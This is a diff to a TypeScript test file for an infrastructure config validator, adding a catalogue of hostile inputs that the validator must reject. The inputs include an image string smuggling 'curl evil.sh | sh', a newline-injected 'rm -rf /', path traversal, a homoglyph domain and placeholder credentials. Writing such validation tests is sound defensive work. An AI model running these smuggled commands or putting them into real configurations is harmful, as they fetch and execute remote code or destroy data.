@@ -7,7 +7,7 @@ import { stringify } from "yaml";
 import { PROJECT_ROOT } from "../plan/engine";
 import { mocks } from "../plan/mocks";
 import { ConfigError } from "../stacks/errors";
-import { readStackFileConfig } from "../stacks/load";
+import { loadConfigMap, readStackFileConfig } from "../stacks/load";
 import { config, expectInvalid } from "./support/harness";
 
 /**
@@ -153,6 +153,34 @@ export const BAD: [string, Record<string, unknown>, string, string | RegExp][] =
     ["Cloud Run reserved variable", { ...GCP, "platform:services": svc({ environment: { K_SERVICE: "x" } }) }, "platform:services[0].environment.K_SERVICE", "set by Cloud Run"],
     ["fractional Cloud Run CPU", { ...GCP, "platform:services": svc({ gcp: { cpu: "0.5", concurrency: 1, cpuIdle: true } }) }, "platform:services[0].gcp.cpu", "first-generation"],
     ["tag key in the aws: namespace", { "platform:tags": { "aws:owner": "me" } }, "platform:tags.aws:owner", 'must not start with "aws:"'],
+    // hostile and sloppy input (issue 16): stacks/checks/input-safety.ts, stacks/checks/prod-safety.ts
+    ["image with shell metacharacters", { "platform:services": svc({ image: "nginx; curl evil.sh | sh" }) }, "platform:services[0].image", "not an image reference"],
+    ["image with a newline", { "platform:services": svc({ image: "nginx\nRUN rm -rf /" }) }, "platform:services[0].image", "no spaces, quotes or shell characters"],
+    ["image with capitals in the name", { "platform:services": svc({ image: "MyOrg/App:1.0" }) }, "platform:services[0].image", "lowercase name"],
+    ["image with a short digest", { "platform:services": svc({ image: "nginx@sha256:abc" }) }, "platform:services[0].image", "@sha256:digest"],
+    ["wildcard alias", { "platform:domain": { name: "app.example.com", zoneName: "example.com", aliases: ["*.example.com"] } }, "platform:domain.aliases[0]", "is a wildcard"],
+    ["alias outside the zone", { "platform:domain": { name: "app.example.com", zoneName: "example.com", aliases: ["evil.attacker.net"] } }, "platform:domain.aliases[0]", "not in the zone example.com"],
+    ["homoglyph alias", { "platform:domain": { name: "app.example.com", zoneName: "example.com", aliases: ["www.ex\u0430mple.com"] } }, "platform:domain.aliases[0]", "look-alike Unicode"],
+    ["alias with a newline", { "platform:domain": { name: "app.example.com", zoneName: "example.com", aliases: ["x\ny.example.com"] } }, "platform:domain.aliases[0]", "not a host name"],
+    ["zone name climbing out", { "platform:domain": { name: "app.example.com", zoneName: "../other" } }, "platform:domain.zoneName", "is not a zone name"],
+    ["domain outside its zone", { "platform:domain": { name: "app.example.com", zoneName: "example.org" } }, "platform:domain.name", "not in the zone example.org"],
+    ["tag key with the aws: prefix", { "platform:tags": { "aws:cloudformation:stack-name": "x" } }, "platform:tags.aws:cloudformation:stack-name", "reserves"],
+    ["tag value with forbidden characters", { "platform:tags": { team: "a;b<c>" } }, "platform:tags.team", "characters AWS tags do not allow"],
+    ["tag key too long", { "platform:tags": { ["k".repeat(129)]: "x" } }, `platform:tags.${"k".repeat(129)}`, "1 to 128 characters"],
+    ["plaintext password in environment", { "platform:services": svc({ environment: { DB_PASSWORD: "hunter2" } }) }, "platform:services[0].environment.DB_PASSWORD", "platform:secrets"],
+    ["database URL with a password", { "platform:services": svc({ environment: { DATABASE_URL: "postgres://app:hunter2@db:5432/app" } }) }, "platform:services[0].environment.DATABASE_URL", "value not shown"],
+    ["API key in environment", { "platform:services": svc({ environment: { STRIPE_API_KEY: "sk_live_123" } }) }, "platform:services[0].environment.STRIPE_API_KEY", "looks like a credential"],
+    ["environment shadows a database link", { "platform:database": {}, "platform:services": svc({ uses: ["database"], environment: { DATABASE_HOST: "evil.example.com" } }) }, "platform:services[0].environment.DATABASE_HOST", "set by the link (uses: database)"],
+    ["app secret replaces the database password", { "platform:database": {}, "platform:secrets": ["database-password"], "platform:services": svc({ uses: ["database"], secrets: ["database-password"] }) }, "platform:services[0].secrets[0]", "DATABASE_PASSWORD"],
+    ["secret and environment with one name", { "platform:secrets": ["api-key"], "platform:services": svc({ secrets: ["api-key"], environment: { API_KEY_X: "1", API_KEY: "ref" } }) }, "platform:services[0].secrets[0]", "environment.API_KEY also sets"],
+    ["25,000 environment variables", { "platform:services": svc({ environment: Object.fromEntries(Array.from({ length: 25000 }, (_, k) => [`V${k}`, "x"])) }) }, "platform:services[0].environment", "at most 1000"],
+    ["environment over 32 KiB", { "platform:services": svc({ environment: { BIG: "x".repeat(40000) } }) }, "platform:services[0].environment", "bytes of names and values"],
+    ["Cloud Run reserved variable", { ...GCP, "platform:services": svc({ environment: { PORT: "8080" } }) }, "platform:services[0].environment.PORT", "reserved by Cloud Run"],
+    ["prod public app without a domain", { "platform:environment": "prod" }, "platform:domain", "allowHttp: true"],
+    ["ECS Exec in prod without the switch", { "platform:environment": "prod", "platform:allowHttp": true, "platform:services": svc({ exec: true }) }, "platform:services[0].exec", "allowExecInProd"],
+    ["unknown egress mode", { "platform:aws": { egress: "none" } }, "platform:aws.egress", '"restricted", "open"'],
+    ["SES identity that is not a domain", { "platform:services": svc({ permissions: { ses: { identities: ["not an identity"] } } }) }, "platform:services[0].permissions.ses.identities[0]", "verified SES identity"],
+    ["SNS topic with a wildcard", { "platform:services": svc({ permissions: { sns: { topics: ["*"] } } }) }, "platform:services[0].permissions.sns.topics[0]", "SNS topic name"],
 ];
 
 const STACK_HEAD = "config:\n  platform:name: app\n  platform:environment: dev\n";
@@ -236,6 +264,38 @@ describe("bad input catalogue", () => {
             assert.strictEqual(r.stdout, "", `${what}: printed on stdout`);
             assert.ok(r.stderr.includes(`${keyPath}:`), `${what}: stderr does not name ${keyPath}:\n${r.stderr}`);
             assert.doesNotMatch(r.stderr, /^\s{4}at /m, `${what}: stack trace on stderr`);
+        });
+    });
+
+    const hostile = () => BAD.slice(BAD.findIndex((b) => b[0] === "image with shell metacharacters"));
+
+    it("never echoes a credential in the message the CLI prints, for any hostile input", () => {
+        assert.ok(hostile().length >= 25);
+        for (const [what, overrides] of hostile()) {
+            let message = "";
+            try {
+                loadConfigMap(config(overrides), "hostile.yaml");
+            } catch (e) {
+                message = (e as Error).message;
+            }
+            assert.ok(message, `${what}: accepted`);
+            assert.doesNotMatch(message, /hunter2|sk_live_123/, `${what}: echoed a credential`);
+            assert.ok(message.length < 5000, `${what}: ${message.length} characters of message`);
+        }
+    });
+
+    it("exits 2 through the CLI for hostile input (a sample: shell image, newline alias, 25,000 variables, a password)", async function () {
+        this.timeout(600000);
+        const pick = ["image with shell metacharacters", "alias with a newline", "25,000 environment variables", "database URL with a password"];
+        const sample = hostile().filter((b) => pick.includes(b[0])).map(([what, overrides, keyPath]) => ({ what, text: stringify({ config: config(overrides) }), keyPath }));
+        assert.strictEqual(sample.length, pick.length);
+        const results = await Promise.all(sample.map((h, i) => runCli(writeStack(dir, `hostile-${i}`, h.text))));
+        results.forEach((r, i) => {
+            const { what, keyPath } = sample[i];
+            assert.strictEqual(r.code, 2, `${what}: exit ${r.code}\n${r.stderr.slice(0, 2000)}`);
+            assert.strictEqual(r.stdout, "", `${what}: printed on stdout`);
+            assert.ok(r.stderr.includes(`${keyPath}:`), `${what}: stderr does not name ${keyPath}:\n${r.stderr.slice(0, 2000)}`);
+            assert.doesNotMatch(r.stderr, /hunter2/, `${what}: echoed a credential`);
         });
     });
 
